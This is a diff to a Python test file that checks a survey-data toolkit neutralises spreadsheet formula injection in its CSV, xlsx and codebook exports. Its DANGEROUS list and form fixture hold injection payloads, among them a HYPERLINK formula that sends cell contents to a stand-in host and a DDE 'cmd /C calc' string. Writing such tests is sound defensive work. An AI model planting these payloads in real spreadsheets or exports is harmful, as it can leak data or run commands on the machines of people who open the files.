@@ -6,11 +6,14 @@ from __future__ import annotations
 import csv
 import io
 import json
+import zipfile
 from pathlib import Path
 
+import pandas as pd
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from openpyxl import load_workbook
 from rich.console import Console
 from rich.text import Text
 from typer.testing import CliRunner
@@ -19,6 +22,8 @@ from tests.conftest import write_md_form
 from toolkit import ingest
 from toolkit.cli import app
 from toolkit.cli._common import shown
+from toolkit.codebook import write_codebook
+from toolkit.spreadsheet import TEXT_PREFIX, safe_cell, safe_frame
 from toolkit.validate import validate
 from toolkit.xform import load_form
 
@@ -31,10 +36,13 @@ FORM = """
 | | integer | age | Age | . >= 0 and . <= 110 | |
 | | decimal | debt | Debt | | |
 | | select_one yn | ok | OK? | | |
+| | select_one fx | fav | Favourite | | |
 | choices |
 | | list_name | name | label |
 | | yn | 1 | =HYPERLINK("http://x.example/?"&A1,"Yes") |
 | | yn | 2 | [link=http://x.example]No[/link] |
+| | fx | a | -1+1 |
+| | fx | b | @SUM(A1) |
 | settings |
 | | form_id |
 | | hz |
@@ -200,3 +208,85 @@ def test_run_prints_markup_answers_as_they_are(tmp_path: Path, form_path: Path) 
     done = runner.invoke(app, ["run", str(survey)], env={"COLUMNS": "400"})
     assert "unexpected error" not in done.output, done.output
     assert done.exit_code == 1 and "[/] survey" in done.output and answer in done.output
+
+
+# ---- item 14: answers that would run as spreadsheet formulas are written as text ---------------------------------
+
+DANGEROUS = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+2", "-2+3*cmd|' /C calc'!A0", "@SUM(1)", "\tx", "\rx"]
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        *[(v, TEXT_PREFIX + v) for v in DANGEROUS],
+        ("-5", "-5"),  # a number in a text cell is data, and nothing runs
+        ("+7.5e3", "+7.5e3"),
+        ("-", "'-"),
+        ("Aida", "Aida"),
+        ("", ""),
+        (-5, -5),
+        (None, None),
+    ],
+)
+def test_safe_cell(value, expected) -> None:
+    assert safe_cell(value) == expected
+
+
+def test_safe_frame_changes_text_cells_only() -> None:
+    frame = pd.DataFrame(
+        {
+            "text": pd.array(["=1+1", "-5", None, "ok"], dtype="string"),
+            "mixed": pd.Series(["@x", -98, None, "b"], dtype=object),
+            "int": pd.array([-1, -2, None, 4], dtype="Int64"),
+            "float": [-1.5, 0.0, float("nan"), 2.0],
+        }
+    )
+    safe = safe_frame(frame)
+    assert safe["text"].tolist()[:2] == ["'=1+1", "-5"] and safe["text"].isna().tolist() == [0, 0, 1, 0]
+    assert safe["mixed"].tolist()[:2] == ["'@x", -98]
+    assert safe["int"].dtype == frame["int"].dtype and safe["float"].equals(frame["float"])
+    assert frame["text"][0] == "=1+1"  # the input is not changed
+
+
+def _csv_cells(path: Path) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
+
+
+def test_ingest_export_and_validate_csv_neutralise_formulas(tmp_path: Path, form_path: Path) -> None:
+    payload = DANGEROUS[0]
+    subs = _folder(tmp_path / "in", {"a": _instance("uuid:a", name=payload.replace("&", "&amp;"), age="=1+1")})
+    done = runner.invoke(app, ["ingest", str(subs), "-f", str(form_path), "-o", str(tmp_path / "DATA"), "--csv"])
+    assert done.exit_code == 1, done.output  # age is not a number: type_invalid
+    (row,) = _csv_cells(tmp_path / "DATA" / "hz.csv")
+    assert row["name"] == TEXT_PREFIX + payload and row["debt"] == "-5.5"
+    assert pd.read_parquet(tmp_path / "DATA" / "hz.parquet")["name"][0] == payload  # the data stays exact
+
+    done = runner.invoke(app, ["validate", str(subs), "-f", str(form_path), "--csv", str(tmp_path / "f.csv")])
+    (finding,) = _csv_cells(tmp_path / "f.csv")
+    assert finding["value"] == "'=1+1"
+
+    subs = _folder(tmp_path / "in2", {"a": _instance("uuid:a", name=payload.replace("&", "&amp;"))})
+    runner.invoke(app, ["ingest", str(subs), "-f", str(form_path), "-o", str(tmp_path / "DATA2")])
+    done = runner.invoke(
+        app, ["export", str(tmp_path / "DATA2"), "-f", str(form_path), "-o", str(tmp_path / "x"), "--format", "csv"]
+    )
+    assert done.exit_code == 0, done.output
+    (plain,) = _csv_cells(tmp_path / "x" / "hz.csv")
+    (labelled,) = _csv_cells(tmp_path / "x" / "hz-labelled.csv")
+    assert plain["name"] == labelled["name"] == TEXT_PREFIX + payload
+    assert plain["debt"] == "-5.5" and plain["ok"] == "1"
+    assert labelled["ok"] == '\'=HYPERLINK("http://x.example/?"&A1,"Yes")'
+    recoded = {r["choice_name"]: r["label"] for r in _csv_cells(tmp_path / "x" / "hz-value-map.csv")}
+    assert recoded == {"a": "'-1+1", "b": "'@SUM(A1)"}
+
+
+def test_codebook_xlsx_has_no_formulas(tmp_path: Path, form_path: Path) -> None:
+    result = write_codebook(load_form(form_path), out_dir=tmp_path, formats=["xlsx"])
+    (xlsx,) = [Path(p) for p in result.files if str(p).endswith(".xlsx")]
+    book = load_workbook(xlsx)
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    labels = [c.value for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert labels and all(v.startswith(TEXT_PREFIX) for v in labels)
+    with zipfile.ZipFile(xlsx) as archive:
+        assert not any(b"<f>" in archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))
